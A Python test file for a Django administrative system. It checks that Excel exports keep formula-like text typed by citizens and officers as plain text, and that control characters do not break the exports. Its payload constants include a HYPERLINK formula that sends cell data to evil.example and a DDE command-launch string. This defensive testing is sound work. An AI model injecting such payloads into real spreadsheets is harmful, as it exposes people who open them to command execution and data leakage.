"""Text typed by citizens and officers comes out of every Excel download as text.

A citizen who names himself `=HYPERLINK("http://evil.example";"Bấm vào đây")` must not
get a live link (or worse, a DDE command) into the workbook the desk officer opens in
Excel. Each export below is downloaded through its page, opened with openpyxl, and
every cell is checked: no formula anywhere, the text kept exactly as typed.
"""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cchc.documents.spreadsheets import workbook_bytes, write_table

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1;"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1"
MINUS = "-1+2"
AT = "@SUM(A1:A9)"


def cells_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_and_kept(cells, *payloads):
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in payloads:
        assert payload in texts, payload
        cell = next(c for c in cells if c.value == payload)
        assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text when edited


def test_the_desk_queue_export_keeps_an_applicants_formula_as_text(client, province):
    from cchc.dossiers.tests.factories import make_procedure, receive

    receive(province.office_a, make_procedure(), actor=province.desk_officer, name=HYPERLINK,
            subject=PLUS)
    receive(province.office_a, make_procedure(name=DDE), actor=province.desk_officer, name=MINUS)
    client.force_login(province.desk_officer)

    cells = cells_of(client.get(reverse("dossier_queue_export")))

    assert_no_formula_and_kept(cells, HYPERLINK, DDE, MINUS)


def test_the_catalogue_export_keeps_a_procedure_named_like_a_formula_as_text(client, province):
    from cchc.dossiers.tests.factories import make_procedure

    make_procedure(name=AT, fee=PLUS)
    client.force_login(province.office_a_officer)

    cells = cells_of(client.get(reverse("procedure_export")))

    assert_no_formula_and_kept(cells, AT, PLUS)


def test_the_feedback_export_keeps_a_citizens_formula_as_text(client, province):
    from cchc.feedback import services
    from cchc.feedback.tests.factories import submit

    submit(province.office_a, topic=HYPERLINK, sender=services.Sender(name=MINUS, phone="0912345678"))
    submit(province.office_a, topic=AT)
    client.force_login(province.office_a_officer)

    cells = cells_of(client.get(reverse("feedback_export")))

    assert_no_formula_and_kept(cells, HYPERLINK, MINUS, AT)


def test_the_plan_appendix_keeps_a_task_written_like_a_formula_as_text(client, province):
    from cchc.plans import services
    from cchc.plans.tests.factories import make_annual_plan

    plan = make_annual_plan(province)
    services.task_add(actor=province.dept_officer, plan=plan, content=HYPERLINK, deliverable=PLUS,
                      note=MINUS)
    services.task_add(actor=province.dept_officer, plan=plan, content=AT, timeframe_text=DDE)
    client.force_login(province.dept_officer)

    cells = cells_of(client.get(reverse("plan_tasks_xlsx", args=[plan.pk])))

    assert_no_formula_and_kept(cells, HYPERLINK, PLUS, MINUS, AT)


def test_numbers_stay_numbers_negative_ones_included():
    workbook = Workbook()
    write_table(workbook.active, ["Số", "Tỷ lệ", "Ghi chú"], [[-3, -12.5, "-3"]])
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active

    assert (sheet["A2"].value, sheet["A2"].data_type) == (-3, "n")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-12.5, "n")
    assert (sheet["C2"].value, sheet["C2"].data_type) == ("-3", "s")  # typed as text, stays text


def test_every_excel_writer_goes_through_the_guard():
    """Cell values are only set in spreadsheets.py (write_table / set_text / write_cell):
    a new export assigning `cell.value`, `sheet.append(...)` or `cell(..., value=...)`
    directly would bypass the neutralisation."""
    import re
    from pathlib import Path

    import cchc

    root = Path(cchc.__file__).parent
    direct = re.compile(r"\.value\s*=(?!=)|\b(?:sheet|ws|worksheet)\.append\(|\.cell\([^)]*\bvalue\s*=")
    offenders = [
        f"{path.relative_to(root)}:{number}"
        for path in root.rglob("*.py")
        if "tests" not in path.parts and path.name != "spreadsheets.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if direct.search(line) and "openpyxl" in path.read_text(encoding="utf-8")
    ]
    assert offenders == []


def test_control_characters_pasted_into_a_field_do_not_break_the_export(client, province):
    """Word's manual line break is a vertical tab; openpyxl refuses it, so one feedback
    topic pasted from Word made the whole export a 500."""
    from cchc.feedback.tests.factories import submit

    submit(province.office_a, topic="Dòng một\x0bdòng hai\x01\x1f", content="Nội dung\x0c")
    client.force_login(province.office_a_officer)

    cells = cells_of(client.get(reverse("feedback_export")))

    assert "Dòng một\ndòng hai" in {c.value for c in cells}


def test_control_characters_do_not_break_the_word_plan_either(client, province):
    from docx import Document

    from cchc.plans import services
    from cchc.plans.tests.factories import make_annual_plan

    plan = make_annual_plan(province)
    services.task_add(actor=province.dept_officer, plan=plan, content="Rà soát thủ tục",
                      note="ghi\x0bchú\x01", deliverable="Báo cáo\x0b")
    plan.title += "\x0b"
    plan.save(update_fields=["title"])
    client.force_login(province.dept_officer)

    response = client.get(reverse("plan_docx", args=[plan.pk]))

    assert response.status_code == 200
    text = "\n".join(p.text for p in Document(io.BytesIO(response.content)).paragraphs)
    assert "Công tác cải cách hành chính năm 2026" in text
